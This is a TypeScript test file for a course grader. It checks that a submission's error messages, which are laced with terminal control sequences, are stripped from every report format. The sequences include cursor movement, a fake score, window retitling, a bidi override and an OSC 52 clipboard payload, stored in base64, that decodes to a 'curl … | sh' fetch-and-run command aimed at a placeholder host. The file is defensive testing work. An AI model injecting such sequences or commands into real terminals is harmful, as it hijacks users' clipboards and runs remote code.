// relu-lab grade on a submission whose error message would take over the
// instructor's terminal (prints-control-sequences-in-messages): ESC M and a
// CR to climb back over the report, a fake "Score: 96 / 96", OSC 0 retitling
// the window, OSC 52 filling the clipboard with `curl … | sh`, a bidi
// override. None of it survives in the terminal output, the Markdown and
// HTML reports, results.json, JUnit XML or the GitHub annotations.
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { githubAnnotations } from '../../ci/outputs/annotations.ts';
import { ciView } from '../../ci/outputs/ciView.ts';
import { junitXml } from '../../ci/outputs/junitXml.ts';
import { PACKAGE_ROOT } from '../../core/defaults.ts';
import type { ResultsDocument } from '../../results/types.ts';
import { validateResults } from '../../results/validateResults.ts';
import { assignment } from '../../course/assignment.ts';
import { loadFixtureCorpus, materialiseFixture } from '../../corpus/fixtureCorpus.ts';
import { TEST_MANIFEST_PATH } from '../../manifest/testing/testManifest.ts';
import { main } from '../main.ts';

/** Anything a terminal, XML 1.0 or the bidi algorithm would act on (ESC included). */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;
/** The OSC 52 payload (base64 of `curl -fsSL https://relu-lab.invalid/fix.sh | sh`) and the OSC 0 title. */
const CLIPBOARD = 'Y3VybCAtZnNTTCBodHRwczovL3JlbHUtbGFiLmludmFsaWQvZml4LnNoIHwgc2g=';
const TITLE = 'all 45 checks passed';
/** The colour codes relu-lab itself writes when colour is on: SGR only. */
// eslint-disable-next-line no-control-regex
const OWN_SGR = /\u001b\[[0-9;]*m/g;

const work = await fs.mkdtemp(path.join(os.tmpdir(), 'relu-lab-control-sequences-'));
afterAll(() => fs.rm(work, { recursive: true, force: true }));

let stdout = '';
let doc: ResultsDocument;
const out = path.join(work, 'out');

beforeAll(async () => {
  const fixture = (await loadFixtureCorpus(assignment)).find((f) => f.name === 'prints-control-sequences-in-messages');
  if (!fixture) throw new Error('the fixture prints-control-sequences-in-messages is missing from grader/fixtures/submissions');
  const submission = await materialiseFixture(fixture, path.join(work, 'submission'));
  // colour on, as on an instructor's terminal: relu-lab's own SGR codes must be the only escapes
  const io = { out: (t: string) => void (stdout += t), err: () => {}, color: true, env: {}, cwd: PACKAGE_ROOT };
  expect(await main(['grade', '--submission', submission, '--manifest', TEST_MANIFEST_PATH, '--out', out], io)).toBe(0);
  doc = validateResults(JSON.parse(await fs.readFile(path.join(out, 'results.json'), 'utf8')));
}, 120_000);

describe('a submission whose error message carries terminal control sequences', () => {
  test('it loses points in activations, as its fixture.json says, and its message is in the results without its controls', () => {
    const activations = doc.tasks.find((t) => t.id === 'activations')!;
    expect(activations.earned).toBeLessThan(activations.possible);
    const failing = doc.tests.filter((t) => t.task === 'activations' && t.status !== 'passed');
    expect(failing.length).toBeGreaterThan(0);
    const messages = failing.map((t) => t.message ?? '').join('\n');
    expect(messages).toContain('wrong\\u000DScore: 96 / 96\\u202E');
    // the plots' data carries what a plotted call threw, too
    expect(JSON.stringify(doc)).not.toContain(CLIPBOARD);
    expect(JSON.stringify(doc)).not.toContain(TITLE);
    expect(JSON.stringify(doc)).not.toMatch(/\\u001b|\\u0007|\u202E/i);
  });

  test('the terminal report has only its own colour codes, and no line poses as its score', () => {
    expect(stdout.replace(OWN_SGR, '')).not.toMatch(CONTROL);
    expect(stdout).not.toContain(CLIPBOARD);
    expect(stdout).not.toContain(TITLE);
    const lines = stdout.replace(OWN_SGR, '').split('\n');
    // one line at the left margin gives the score, and it is the real one (79 of the 96 visible points)
    const scoreLines = lines.filter((l) => l.startsWith('Score:'));
    expect(scoreLines).toHaveLength(1);
    expect(scoreLines[0]).toMatch(/^Score: \d+ \/ 96\b/);
    expect(scoreLines[0]).not.toContain('Score: 96 / 96');
    // the fake score is there as text, indented inside the failing test's block
    expect(lines.some((l) => /^ {6}.*Score: 96 \/ 96/.test(l))).toBe(true);
  });

  test('report.md and report.html keep no control, title or clipboard payload', async () => {
    for (const file of ['report.md', 'report.html']) {
      const text = await fs.readFile(path.join(out, file), 'utf8');
      expect(text, file).toContain('Score: 96 / 96');
      expect(text, file).not.toMatch(CONTROL);
      expect(text, file).not.toContain(CLIPBOARD);
      expect(text, file).not.toContain(TITLE);
    }
  });

  test('JUnit XML and the GitHub annotations keep none of it either', () => {
    const view = ciView({
      doc,
      mode: { kind: 'visible' },
      functionOf: () => 'reluGrad',
      submissionPath: 'exercises',
      sources: {},
      now: new Date(),
      deadline: null,
      audience: 'instructor',
    });
    const xml = junitXml(view);
    expect(xml).toContain('Score: 96 / 96');
    const annotations = githubAnnotations(view);
    expect(annotations.join('')).toContain('Score: 96 / 96');
    for (const text of [xml, ...annotations]) {
      expect(text).not.toMatch(CONTROL);
      expect(text).not.toContain(CLIPBOARD);
      expect(text).not.toContain(TITLE);
    }
    for (const line of annotations) expect(line).not.toMatch(/[\r\n]/);
  });
});
